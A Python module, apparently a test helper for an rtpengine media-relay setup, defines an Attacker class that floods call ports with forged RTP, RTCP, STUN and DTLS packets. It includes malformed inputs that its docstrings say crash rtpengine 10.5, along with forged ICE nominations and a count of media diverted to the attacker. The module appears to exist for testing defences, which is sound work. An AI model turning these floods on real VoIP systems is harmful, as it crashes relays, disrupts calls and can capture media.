"""Somebody who knows a call's ports, perhaps its SSRCs, and nothing else: floods them from a socket of his.

Knows RTP, RTCP, STUN and what looks like SRTP. Must not know calls, keys or passwords.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterable, Sequence
from types import TracebackType
from typing import Final, Self

SSRC: Final = 0x0BAD0BAD
HOST: Final = "127.0.0.66"
_BURST: Final = 10
"""Packets in a row: without the role's library rtpengine 10.5 reads no more from a port, for good, that had more than
50 waiting five times, so what was missed is not made up for."""
_LISTEN_EVERY: Final = 50

Target = tuple[str, int]


Kind = Callable[[int, int], bytes]
"""(number of the packet, SSRC it names) -> packet"""


def _rtp(payload_type: int) -> Kind:
    def packet(number: int, ssrc: int) -> bytes:
        header = struct.pack("!BBHII", 0x80, payload_type, number & 0xFFFF, number * 160 & 0xFFFFFFFF, ssrc)
        return header + b"\xd5" * 160

    return packet


def _sender_report(number: int, ssrc: int) -> bytes:
    # Read as RTP, too, it names the same SSRC: see the note on KINDS.
    return struct.pack("!BBHIIIIII", 0x80, 200, 6, ssrc, ssrc, number, number, 1, 1)


def _receiver_report(ssrc: int) -> bytes:
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc)


def _goodbye(number: int, ssrc: int) -> bytes:
    goodbye = struct.pack("!BBHI", 0x81, 203, 1, ssrc)
    # The last word is what SRTCP has as index: E bit 0, so nobody may look for encryption (RFC 3711 §3.4).
    return _receiver_report(ssrc) * 3 + goodbye + struct.pack("!I", number & 0x7FFFFFFF)


def _key_frame_request(number: int, ssrc: int) -> bytes:
    request = struct.pack("!BBHII", 0x81, 206, 2, ssrc, ssrc)
    return _receiver_report(ssrc) + request * 2 + struct.pack("!I", number & 0x7FFFFFFF)


def _short(number: int, ssrc: int) -> bytes:
    """Shorter than SRTCP may be in any protection profile: rtpengine 10.5 dies of it where keys are AES-GCM."""
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc) + bytes(number % 20)


def _encrypted(_number: int, ssrc: int) -> bytes:
    return struct.pack("!BBHII", 0x80, 111, 7, 7, ssrc) + os.urandom(80)


def _binding_request(_number: int, _ssrc: int) -> bytes:
    """Without MESSAGE-INTEGRITY (RFC 8445 §7.3 wants it)."""
    return struct.pack("!HHI", 1, 0, 0x2112A442) + os.urandom(12)


def _client_hello(number: int, _ssrc: int) -> bytes:
    """A DTLS handshake of his own (RFC 6347 §4.2.2), as far as anybody gets without an answer."""
    suites = b"\x00\x04\xc0\x2b\xc0\x2f"
    extensions = struct.pack("!HHHHHB", 9, 14, 5, 2, 1, 0)  # use_srtp: AES-CM, no MKI (RFC 5764)
    body = b"\xfe\xfd" + os.urandom(32) + b"\x00\x00" + suites + b"\x01\x00" + extensions
    return _handshake(1, number, body)


def _handshake(kind: int, number: int, body: bytes) -> bytes:
    length = len(body).to_bytes(3, "big")
    message = bytes([kind]) + length + struct.pack("!H", number & 0xFF) + b"\x00\x00\x00" + length + body
    return (
        b"\x16\xfe\xff\x00\x00"
        + (number & 0xFFFFFFFF).to_bytes(6, "big")
        + struct.pack("!H", len(message))
        + message
    )


def _server_hello(number: int, _ssrc: int) -> bytes:
    """What he would say were he the page's DTLS server."""
    return _handshake(2, number, b"\xfe\xfd" + os.urandom(32) + b"\x00\xc0\x2b\x00")


def _alert(number: int, _ssrc: int) -> bytes:
    """Fatal, handshake_failure; close_notify every other time."""
    alert = b"\x02\x28" if number % 2 else b"\x01\x00"
    return b"\x15\xfe\xfd\x00\x00" + (number & 0xFFFFFFFF).to_bytes(6, "big") + b"\x00\x02" + alert


def _finished(number: int, _ssrc: int) -> bytes:
    """ChangeCipherSpec and what might be encrypted, of epoch 1."""
    sequence = (number & 0xFFFFFFFF).to_bytes(6, "big")
    return (
        b"\x14\xfe\xfd\x00\x00" + sequence + b"\x00\x01\x01"
        b"\x17\xfe\xfd\x00\x01" + sequence + b"\x00\x40" + os.urandom(64)
    )


def _half_a_record(number: int, _ssrc: int) -> bytes:
    """A handshake record cut anywhere."""
    return _client_hello(number, 0)[: 1 + number % 60]


def _stun(kind: int, attributes: bytes, *, length: int | None = None) -> bytes:
    size = len(attributes) if length is None else length
    return struct.pack("!HHI", kind, size, 0x2112A442) + os.urandom(12) + attributes


def _nomination(number: int, _ssrc: int) -> bytes:
    """A check with USE-CANDIDATE and a user name, signed with a key that is not the call's (RFC 8445 §7.3)."""
    user = b"abcd:efgh"
    attributes = struct.pack("!HH", 6, len(user)) + user + b"\x00" * (-len(user) % 4)
    attributes += struct.pack("!HHI", 0x24, 4, 0x7EFFFFFF) + struct.pack("!HH", 0x25, 0)
    attributes += struct.pack("!HHQ", 0x802A, 8, number) + struct.pack("!HH", 8, 20) + os.urandom(20)
    return _stun(1, attributes)


def _stun_response(_number: int, _ssrc: int) -> bytes:
    """A success to a check that he did not see, and an address of his in it."""
    return _stun(0x0101, struct.pack("!HHBBH4s", 0x20, 8, 0, 1, 0x1234, b"\x01\x02\x03\x04"))


def _stun_that_lies(number: int, _ssrc: int) -> bytes:
    """Lengths beyond the end: of the message, or of an attribute."""
    if number % 2:
        return _stun(1, b"\x00\x06\x00\x04abcd", length=0xFFFC)
    return _stun(1, struct.pack("!HH", 6, 0xFFFF) + b"abcd")


HANDSHAKES: Final = (_client_hello, _server_hello, _alert, _finished, _half_a_record)
"""DTLS of somebody who has no part in it."""
CHECKS: Final = (_binding_request, _nomination, _stun_response, _stun_that_lies)
"""STUN of somebody who does not know the call's passwords."""

# All name few SSRCs. With a new one in each packet rtpengine forgets which SSRC it gave the call's own stream and gives
# it another one: nothing is relayed or lost, but whoever counts packets by SSRC cannot tell.
# RTCP comes first: before the first RTP of a call it is what address checks forget.
KINDS: Final = (
    _sender_report,
    _goodbye,
    _key_frame_request,
    _short,
    _rtp(8),
    _rtp(0),
    _rtp(111),
    _rtp(96),
    _rtp(97),
    _encrypted,
    _binding_request,
)


REPORTS: Final = KINDS[:4]
"""RTCP alone: what an address check lets pass as long as it has seen no RTP, not even of a stranger."""


class Attacker:
    """Floods targets in a thread of its own; use as a context manager."""

    def __init__(
        self,
        targets: Iterable[Target],
        packets_per_s: float,
        *,
        host: str = HOST,
        ssrc: int = SSRC,
        kinds: Sequence[Kind] = KINDS,
    ) -> None:
        """`host`: his address, which may be that of an end of the call; `ssrc`: the one he names, perhaps guessed."""
        self._targets = tuple(targets)
        self._packets_per_s = packets_per_s
        self._ssrc = ssrc
        self._kinds = kinds
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((host, 0))
        self._socket.setblocking(False)
        self.sent = 0
        self.stolen = 0
        """Packets that came to him: media of the call, or an answer."""
        self._stopped = threading.Event()
        self._thread = threading.Thread(target=self._flood, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._stopped.set()
        self._thread.join()
        self._listen()
        self._socket.close()

    def _flood(self) -> None:
        due = time.monotonic()
        for number, (kind, target) in enumerate(
            itertools.cycle(itertools.product(self._kinds, self._targets)), start=1
        ):
            try:
                self._socket.sendto(kind(number, self._ssrc), target)
            except BlockingIOError:
                continue
            self.sent += 1
            if self.sent % _LISTEN_EVERY == 0:
                self._listen()
            if self.sent % _BURST == 0:
                if self._stopped.is_set():
                    return
                due = max(due + _BURST / self._packets_per_s, time.monotonic())
                time.sleep(max(0.0, due - time.monotonic()))

    def _listen(self) -> None:
        while True:
            try:
                self._socket.recv(2048)
            except BlockingIOError:
                return
            self.stolen += 1
